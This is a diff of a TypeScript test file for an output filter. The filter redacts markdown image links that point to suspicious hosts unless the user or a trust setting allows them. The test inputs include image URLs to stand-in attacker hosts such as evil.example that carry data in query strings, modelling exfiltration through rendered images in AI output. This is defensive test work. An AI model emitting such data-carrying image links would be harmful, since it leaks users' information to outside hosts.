@@ -107,6 +107,18 @@ describe('output', () => {
     expect(shown(decision.value)).toBe('Run `curl […]`.');
   });
 
+  it('cuts what leads to a suspicious host below one of the user', async () => {
+    const { run } = await started({}, 'dubious: https://x.mine.example/q');
+    const shows = async (url: string) => shown((await run.screen('output', `![c](${url})`)).value);
+    expect(await shows('https://x.mine.example/p?d=Friday')).toBe('![c]([…])');
+    expect(await shows('https://a.x.mine.example/p?d=Friday')).toBe('![c]([…])');
+    expect(await shows('https://y.mine.example/p')).toBe('![c](https://y.mine.example/p)');
+    await run.screen('user', 'Show x.mine.example.');
+    expect(await shows('https://x.mine.example/p')).toBe('![c](https://x.mine.example/p)');
+    const named = await started({ on: { flow: { trusted: ['mine.example'] } } }, 'dubious: https://x.mine.example/q');
+    expect((await named.run.screen('output', '![c](https://x.mine.example/p)')).action).toBe('allow');
+  });
+
   it('does what the policy says', async () => {
     const text = '![c](https://evil.example/p?d=Friday)';
     const actions = ['redact', 'deny', 'report', 'off'] as const;
